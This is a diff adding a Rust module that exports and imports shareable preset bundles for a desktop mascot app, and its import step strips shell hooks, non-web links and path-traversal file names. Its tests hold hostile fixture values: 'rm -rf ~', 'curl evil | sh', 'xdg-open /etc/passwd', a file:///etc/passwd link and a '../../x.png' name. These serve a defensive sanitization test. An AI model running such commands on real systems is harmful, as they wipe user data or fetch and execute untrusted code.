@@ -0,0 +1,258 @@
+use gtk::glib;
+use serde::{Deserialize, Serialize};
+use std::fs;
+use std::io;
+use std::path::{Path, PathBuf};
+use uuid::Uuid;
+
+use crate::gaze::FollowLayer;
+use crate::launch::ClickAction;
+use crate::preset::ChibiPreset;
+use crate::quotes::Quotes;
+
+// --- PRESET BUNDLES ---
+// A .chibi file is a single JSON document holding the preset plus every image it
+// references (base64), so presets can be shared between machines.
+
+const BUNDLE_VERSION: u32 = 1;
+
+#[derive(Serialize, Deserialize)]
+struct BundleImage {
+    file_name: String,
+    data: String,
+}
+
+#[derive(Serialize, Deserialize)]
+struct Bundle {
+    version: u32,
+    preset: ChibiPreset,
+    image: BundleImage,
+    #[serde(default)]
+    sleep_image: Option<BundleImage>,
+    #[serde(default)]
+    happy_image: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    click_image: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    walk_frames: Vec<BundleImage>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    typing_frames: Vec<BundleImage>,
+    #[serde(default)]
+    follow_layer: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    mic_open_image: Option<BundleImage>,
+    // Not images, but packed the same way
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    click_sound: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    spawn_sound: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    chime_sound: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    quotes_file: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    busy_image: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    worried_image: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    rain_image: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    snow_image: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    focus_image: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    break_image: Option<BundleImage>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pomodoro_sound: Option<BundleImage>,
+}
+
+fn invalid(msg: &str) -> io::Error {
+    io::Error::new(io::ErrorKind::InvalidData, msg)
+}
+
+fn pack_image(path: &Path) -> io::Result<BundleImage> {
+    let bytes = fs::read(path)?;
+    let file_name = path.file_name()
+        .map(|n| n.to_string_lossy().to_string())
+        .unwrap_or_else(|| "image.png".into());
+    Ok(BundleImage { file_name, data: glib::base64_encode(&bytes).to_string() })
+}
+
+fn unpack_image(image: &BundleImage, assets_dir: &Path) -> io::Result<PathBuf> {
+    // Only keep the final component so a crafted bundle can't write outside the assets dir
+    let name = Path::new(&image.file_name).file_name().ok_or_else(|| invalid("bad image name"))?;
+    let dest = assets_dir.join(format!("{}-{}", Uuid::new_v4(), name.to_string_lossy()));
+    fs::write(&dest, glib::base64_decode(&image.data))?;
+    Ok(dest)
+}
+
+pub fn export(preset: &ChibiPreset, dest: &Path) -> io::Result<()> {
+    let bundle = Bundle {
+        version: BUNDLE_VERSION,
+        preset: preset.clone(),
+        image: pack_image(&preset.path)?,
+        sleep_image: preset.sleep_image.as_deref().and_then(|p| pack_image(p).ok()),
+        happy_image: preset.happy_image.as_deref().and_then(|p| pack_image(p).ok()),
+        click_image: preset.click_image.as_deref().and_then(|p| pack_image(p).ok()),
+        walk_frames: preset.walk.iter().flat_map(|w| &w.frames).filter_map(|p| pack_image(p).ok()).collect(),
+        typing_frames: preset.typing.iter().flat_map(|t| &t.frames).filter_map(|p| pack_image(p).ok()).collect(),
+        follow_layer: preset.follow_layer.as_ref().and_then(|l| pack_image(&l.image).ok()),
+        mic_open_image: preset.mic.as_ref().and_then(|m| m.open_image.as_deref()).and_then(|p| pack_image(p).ok()),
+        click_sound: preset.click_sound.as_deref().and_then(|p| pack_image(p).ok()),
+        spawn_sound: preset.spawn_sound.as_deref().and_then(|p| pack_image(p).ok()),
+        chime_sound: preset.chime.as_ref().and_then(|c| c.sound.as_deref()).and_then(|p| pack_image(p).ok()),
+        quotes_file: preset.quotes.as_ref().and_then(|q| pack_image(&q.file).ok()),
+        busy_image: preset.monitor.as_ref().and_then(|m| m.busy_image.as_deref()).and_then(|p| pack_image(p).ok()),
+        worried_image: preset.battery.as_ref().and_then(|b| b.worried_image.as_deref()).and_then(|p| pack_image(p).ok()),
+        rain_image: preset.weather.as_ref().and_then(|w| w.rain_image.as_deref()).and_then(|p| pack_image(p).ok()),
+        snow_image: preset.weather.as_ref().and_then(|w| w.snow_image.as_deref()).and_then(|p| pack_image(p).ok()),
+        focus_image: preset.pomodoro.as_ref().and_then(|p| p.focus_image.as_deref()).and_then(|p| pack_image(p).ok()),
+        break_image: preset.pomodoro.as_ref().and_then(|p| p.break_image.as_deref()).and_then(|p| pack_image(p).ok()),
+        pomodoro_sound: preset.pomodoro.as_ref().and_then(|p| p.sound.as_deref()).and_then(|p| pack_image(p).ok()),
+    };
+    let json = serde_json::to_string(&bundle).map_err(|e| invalid(&e.to_string()))?;
+    fs::write(dest, json)
+}
+
+// Links a bundle may bring along: ones a browser opens, nothing that reaches local files or handlers
+fn is_web_link(url: &str) -> bool {
+    let url = url.trim().to_ascii_lowercase();
+    url.starts_with("https://") || url.starts_with("http://")
+}
+
+// Extracts the images into `assets_dir` and returns the preset with rewritten paths and a fresh id
+pub fn import(src: &Path, assets_dir: &Path) -> io::Result<ChibiPreset> {
+    let content = fs::read_to_string(src)?;
+    let bundle: Bundle = serde_json::from_str(&content).map_err(|e| invalid(&e.to_string()))?;
+    if bundle.version > BUNDLE_VERSION {
+        return Err(invalid("bundle was made by a newer version"));
+    }
+    fs::create_dir_all(assets_dir)?;
+
+    let mut preset = bundle.preset;
+    preset.id = Uuid::new_v4().to_string();
+    // Never run shell commands that came from someone else's bundle; their file paths mean nothing here
+    preset.hooks = Default::default();
+    if !matches!(&preset.on_double_click, ClickAction::Url(url) if is_web_link(url)) {
+        preset.on_double_click = ClickAction::Nothing;
+    }
+    preset.link = preset.link.filter(|url| is_web_link(url));
+    preset.path = unpack_image(&bundle.image, assets_dir)?;
+    preset.sleep_image = bundle.sleep_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    preset.happy_image = bundle.happy_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    preset.click_image = bundle.click_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    preset.click_sound = bundle.click_sound.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    preset.spawn_sound = bundle.spawn_sound.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    // A layer whose image didn't make it into the bundle is dropped
+    preset.follow_layer = match (preset.follow_layer.take(), &bundle.follow_layer) {
+        (Some(layer), Some(img)) => Some(FollowLayer { image: unpack_image(img, assets_dir)?, ..layer }),
+        _ => None,
+    };
+    // Behavior files and sound packs point at files next to them, which bundles don't carry
+    preset.behavior = None;
+    preset.sound_pack = None;
+    if let Some(mic) = &mut preset.mic {
+        mic.open_image = bundle.mic_open_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    }
+    if let Some(chime) = &mut preset.chime {
+        chime.sound = bundle.chime_sound.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    }
+    // Quotes whose file didn't make it into the bundle are dropped
+    preset.quotes = match (preset.quotes.take(), &bundle.quotes_file) {
+        (Some(quotes), Some(file)) => Some(Quotes { file: unpack_image(file, assets_dir)?, ..quotes }),
+        _ => None,
+    };
+    if let Some(monitor) = &mut preset.monitor {
+        monitor.busy_image = bundle.busy_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    }
+    if let Some(battery) = &mut preset.battery {
+        battery.worried_image = bundle.worried_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    }
+    if let Some(weather) = &mut preset.weather {
+        weather.rain_image = bundle.rain_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+        weather.snow_image = bundle.snow_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    }
+    if let Some(pomodoro) = &mut preset.pomodoro {
+        pomodoro.focus_image = bundle.focus_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+        pomodoro.break_image = bundle.break_image.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+        pomodoro.sound = bundle.pomodoro_sound.as_ref().map(|f| unpack_image(f, assets_dir)).transpose()?;
+    }
+    if let Some(walk) = &mut preset.walk {
+        walk.frames = bundle.walk_frames.iter().map(|img| unpack_image(img, assets_dir)).collect::<io::Result<_>>()?;
+    }
+    if let Some(typing) = &mut preset.typing {
+        typing.frames = bundle.typing_frames.iter().map(|img| unpack_image(img, assets_dir)).collect::<io::Result<_>>()?;
+    }
+    Ok(preset)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    // Fresh directory under the system temp dir, never the real assets folder
+    fn scratch_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("chibi-bundle-test-{}-{}", std::process::id(), name));
+        let _ = fs::remove_dir_all(&dir);
+        fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    // A bundle from someone else, written to `dir`
+    fn crafted(dir: &Path, preset: &ChibiPreset, file_name: &str) -> PathBuf {
+        let bundle = json!({
+            "version": BUNDLE_VERSION,
+            "preset": preset,
+            "image": { "file_name": file_name, "data": glib::base64_encode(b"png").to_string() },
+        });
+        let path = dir.join("crafted.chibi");
+        fs::write(&path, bundle.to_string()).unwrap();
+        path
+    }
+
+    #[test]
+    fn imports_are_sanitized() {
+        let dir = scratch_dir("sanitized");
+        let assets = dir.join("assets");
+        let mut preset = ChibiPreset { name: "Evil".into(), ..Default::default() };
+        preset.hooks.on_spawn = "rm -rf ~".into();
+        preset.hooks.on_click = "curl evil | sh".into();
+        preset.on_double_click = ClickAction::Command("xdg-open /etc/passwd".into());
+        preset.link = Some("file:///etc/passwd".into());
+        preset.behavior = Some("/home/them/behavior.toml".into());
+        preset.sound_pack = Some("/home/them/sounds".into());
+
+        let imported = import(&crafted(&dir, &preset, "../../x.png"), &assets).unwrap();
+        assert_ne!(imported.id, preset.id);
+        assert!(imported.hooks.is_empty());
+        assert_eq!(imported.on_double_click, ClickAction::Nothing);
+        assert_eq!(imported.link, None);
+        assert_eq!(imported.behavior, None);
+        assert_eq!(imported.sound_pack, None);
+        // The image lands in the assets dir whatever name the bundle gave it
+        assert_eq!(imported.path.parent(), Some(assets.as_path()));
+        assert!(imported.path.file_name().unwrap().to_string_lossy().ends_with("-x.png"));
+        assert_eq!(fs::read(&imported.path).unwrap(), b"png");
+        assert!(!dir.parent().unwrap().join("x.png").exists());
+        let _ = fs::remove_dir_all(dir);
+    }
+
+    #[test]
+    fn web_links_survive_import() {
+        let dir = scratch_dir("links");
+        let preset = ChibiPreset {
+            on_double_click: ClickAction::Url("https://example.org/chibi".into()),
+            link: Some("HTTP://example.org".into()),
+            ..Default::default()
+        };
+        let imported = import(&crafted(&dir, &preset, "cat.png"), &dir.join("assets")).unwrap();
+        assert_eq!(imported.on_double_click, preset.on_double_click);
+        assert_eq!(imported.link, preset.link);
+        let custom = ChibiPreset { on_double_click: ClickAction::Url("steam://run/1".into()), ..Default::default() };
+        let imported = import(&crafted(&dir, &custom, "cat.png"), &dir.join("assets")).unwrap();
+        assert_eq!(imported.on_double_click, ClickAction::Nothing);
+        assert!(import(&crafted(&dir, &custom, ".."), &dir.join("assets")).is_err());
+        let _ = fs::remove_dir_all(dir);
+    }
+}